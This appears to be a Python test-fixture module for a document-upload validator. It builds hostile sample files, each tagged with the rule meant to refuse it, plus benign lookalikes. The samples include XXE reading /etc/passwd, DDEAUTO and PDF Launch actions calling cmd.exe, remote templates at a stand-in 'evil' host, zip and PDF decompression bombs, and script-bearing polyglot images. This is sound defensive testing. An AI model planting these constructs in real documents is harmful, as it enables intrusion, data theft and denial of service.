"""Attacks a file may carry, each built to be refused by one rule; and what only looks like one."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from pypdf import PdfWriter
from pypdf.generic import DictionaryObject, NameObject, TextStringObject

from tests.records.samples import (
    BOOK_HEAD,
    EXE,
    TYPES,
    WORD,
    WORD_HEAD,
    compound,
    docx,
    ofd,
    pack,
    pdf,
    picture,
    xlsx,
)

RELATIONS = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>{}</Relationships>"
RELATION = (
    "<Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}'"
    " Target='{}' TargetMode='External'/>"
)
FIELD = "<w:p><w:r><w:instrText>{}</w:instrText></w:r></w:p>"


def related(kind: str, target: str) -> bytes:
    """A docx with a relation to something outside of it."""
    return docx("", {"word/_rels/settings.xml.rels": RELATIONS.format(RELATION.format(kind, target))})


def crowded_folder() -> bytes:
    """An archive whose folder names 200,000 members that all are one."""
    inside = zipfile.ZipInfo("a")
    inside.CRC = inside.file_size = inside.compress_size = 0
    local = inside.FileHeader()
    entry = struct.pack("<4s4B4HL2L5H2L", b"PK\x01\x02", 20, 3, 20, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    folder = entry * 200_000
    return local + folder + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 1, 1, len(folder), len(local), 0)


def large_form() -> bytes:
    """An archive that puts the true count of its members where only the large form looks."""
    content = docx()
    mark = content.rindex(b"PK\x05\x06")
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, mark, 1)
    return content[:mark] + locator + content[mark:]


def packed_pages(pages: int, *, count: int = 0) -> bytes:
    """A PDF whose pages lie packed in one stream: small on disk; `count` is what it says of their number."""
    page = b"<</Type/Page/Parent 2 0 R>> "
    heads = b" ".join(b"%d %d" % (number + 5, number * len(page)) for number in range(pages)) + b" "
    packed = zlib.compress(heads + page * pages, 9)
    kids = b" ".join(b"%d 0 R" % (number + 5) for number in range(pages))
    objects = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count or pages, kids),
        b"<</Type/ObjStm/N %d/First %d/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream"
        % (pages, len(heads), len(packed), packed),
    )
    body, places = b"%PDF-1.5\n", []
    for number, entry in enumerate(objects, start=1):
        places.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, entry)
    places.append(len(body))
    rows = struct.pack(">BIH", 0, 0, 65535) + b"".join(struct.pack(">BIH", 1, place, 0) for place in places)
    rows = zlib.compress(rows + b"".join(struct.pack(">BIH", 2, 3, number % 65536) for number in range(pages)), 9)
    return body + (
        b"4 0 obj\n<</Type/XRef/Size %d/W[1 4 2]/Root 1 0 R/Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream\n"
        b"endobj\nstartxref\n%d\n%%%%EOF\n" % (pages + 5, len(rows), rows, places[-1])
    )


def pdf_with(script: str = "", *, launch: str = "") -> bytes:
    """A PDF that runs a script, or starts a program, when it is opened."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    kind, name = ("/Launch", "/F") if launch else ("/JavaScript", "/JS")
    action = {NameObject("/S"): NameObject(kind), NameObject(name): TextStringObject(launch or script)}
    writer.root_object[NameObject("/OpenAction")] = DictionaryObject(action)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def looping_pages() -> bytes:
    """A PDF whose page tree leads back to its root."""
    writer = PdfWriter()
    writer.add_blank_page(width=595, height=842)
    kids = DictionaryObject(writer.root_object)["/Pages"].get_object()["/Kids"]  # type: ignore[index]
    kids.append(writer.root_object.raw_get("/Pages"))
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def tiff_of(width: int, height: int) -> bytes:
    """A TIFF that claims a size it does not have."""
    content = bytearray(picture("TIFF"))
    folder = struct.unpack_from("<I", content, 4)[0]
    for number in range(struct.unpack_from("<H", content, folder)[0]):
        place = folder + 2 + 12 * number
        tag = struct.unpack_from("<H", content, place)[0]
        if tag in (256, 257):
            struct.pack_into("<HII", content, place + 2, 4, 1, width if tag == 256 else height)
    return bytes(content)


def two_png_ends() -> bytes:
    """A PNG with a page of HTML behind its end, and an end again behind that."""
    end = b"\x00\x00\x00\x00IEND\xaeB`\x82"
    return picture("PNG") + b"<html><script>alert(1)</script></html>" + end


HTML = b"<html><script>alert(1)</script></html>"
GIF_SCRIPT = b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)"
MARKED_JPEG = b"\xff\xd8\xff\xfe\x00\x1a<script>alert(1)</script>" + picture("JPEG")[2:]

ATTACKS: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "GIF that is a script too": ("a.png", lambda: GIF_SCRIPT, "file_kind"),
    "GIF under the name of a JPEG": ("a.jpg", lambda: picture("GIF"), "file_kind"),
    "PNG with a page between two ends": ("a.png", two_png_ends, "file_double"),
    "JPEG with a page behind": ("a.jpg", lambda: picture("JPEG") + HTML, "file_double"),
    "JPEG with a script in its comment": ("a.jpg", lambda: MARKED_JPEG, "file_double"),
    "TIFF with a page behind": ("a.tif", lambda: picture("TIFF") + HTML, "file_double"),
    "PDF with a page at its start": (
        "a.pdf",
        lambda: pdf().replace(b"\n", b"\n%<script>alert(1)</script>\n", 1),
        "file_double",
    ),
    "PDF with a ZIP inside its end": ("a.pdf", lambda: pdf()[:-6] + docx() + b"\n%%EOF\n", "file_double"),
    "ofd under the name of a docx": ("a.docx", ofd, "file_name"),
    "docx under the name of an xlsx": ("a.xlsx", docx, "file_name"),
    "xlsx under the name of a doc": ("a.doc", xlsx, "file_name"),
    "program with the ending of a PDF hidden": ("a.pdf.exe", lambda: EXE, "file_kind"),
    "web archive under the name of a doc": (
        "a.doc",
        lambda: b"MIME-Version: 1.0\nX: text/html",
        "file_kind",
    ),
    "RTF under the name of a doc": ("a.doc", lambda: b"{\\rtf1 {\\object\\objupdate}}", "file_kind"),
    "bomb of many equal bombs": (
        "a.docx",
        lambda: docx("", {f"word/media/{n}.bin": bytes(30 * 1024 * 1024) for n in range(8)}),
        "file_limit",
    ),
    "folder of too many members": ("a.docx", crowded_folder, "file_limit"),
    "count of members in the large form": ("a.docx", large_form, "file_limit"),
    "template of another machine": ("a.docx", lambda: related("attachedTemplate", "http://evil/t.dotm"), "file_remote"),
    "template of a file share": ("a.docx", lambda: related("attachedTemplate", r"\\evil\t.dotm"), "file_remote"),
    "template by a file address": ("a.docx", lambda: related("attachedTemplate", "file://evil/t.dotm"), "file_remote"),
    "object of another machine": ("a.docx", lambda: related("oleObject", "mhtml:http://evil/x!x"), "file_remote"),
    "picture of another machine": ("a.docx", lambda: related("image", "https://evil/p.png"), "file_remote"),
    "DDE in a field": ("a.docx", lambda: docx(FIELD.format("DDEAUTO c:\\\\cmd.exe")), "file_launch"),
    "DDE over two runs": ("a.docx", lambda: docx(FIELD.format(" DD") + FIELD.format("EAUTO x")), "file_launch"),
    "DDE in letters as numbers": ("a.docx", lambda: docx(FIELD.format("&#68;DE x")), "file_launch"),
    "DDE in a simple field": ("a.docx", lambda: docx("<w:fldSimple w:instr='DDE x y'/>"), "file_launch"),
    "DDE of a workbook": (
        "a.docx",
        lambda: docx(
            "", {"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}
        ),
        "file_launch",
    ),
    "entity in a part of another ending": (
        "a.docx",
        lambda: pack(
            {
                "[Content_Types].xml": TYPES.format(WORD).replace("/word/document.xml", "/word/document.bin"),
                "word/document.bin": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
            }
        ),
        "file_entities",
    ),
    "doc with macros": ("a.doc", lambda: compound({"WordDocument": WORD_HEAD, "Macros": b"x"}), "file_macros"),
    "xls with macros": ("a.xls", lambda: compound({"Workbook": BOOK_HEAD, "_VBA_PROJECT_CUR": b"x"}), "file_macros"),
    "PDF that starts a program": ("a.pdf", lambda: pdf_with(launch="cmd.exe"), "file_launch"),
    "PDF of packed pages": ("a.pdf", lambda: packed_pages(60_000), "file_limit"),
    "PDF that lies about its pages": ("a.pdf", lambda: packed_pages(60_000, count=1), "file_limit"),
    "PDF whose pages lead in a circle": ("a.pdf", looping_pages, "file_broken"),
    "TIFF of 50,000 by 50,000": ("a.tif", lambda: tiff_of(50_000, 50_000), "file_limit"),
    "TIFF of too many frames": ("a.tif", lambda: picture("TIFF", size=(1, 1), frames=2_001), "file_limit"),
}

KEPT: dict[str, tuple[str, Callable[[], bytes]]] = {
    "PDF with a script": ("a.pdf", lambda: pdf_with(script="app.alert(1)")),
    "docx with an object": ("a.docx", lambda: docx("", {"word/embeddings/oleObject1.bin": b"x" * 99})),
    "docx with a packed file inside": (
        "a.docx",
        lambda: docx("", {"word/embeddings/a.zip": pack({"b": bytes(9999)})}),
    ),
    "docx with a link to a page": ("a.docx", lambda: related("hyperlink", "https://www.tj.gov.cn/")),
    "docx with a template of the own disk": ("a.docx", lambda: related("attachedTemplate", "file:///C:\\T\\n.dotm")),
    "docx with page numbers": ("a.docx", lambda: docx(FIELD.format(" PAGE ") + FIELD.format("HYPERLINK ADDENDUM"))),
    "JPEG with its smaller copy behind": ("a.jpg", lambda: picture("JPEG") + picture("JPEG", size=(8, 8)) + bytes(9)),
    "PNG over many pieces": ("a.png", lambda: picture("PNG", size=(700, 700))),
    "name with two endings": ("协议.docx.pdf", pdf),
}
"""Not everything that moves is an attack: what is kept, as it came."""
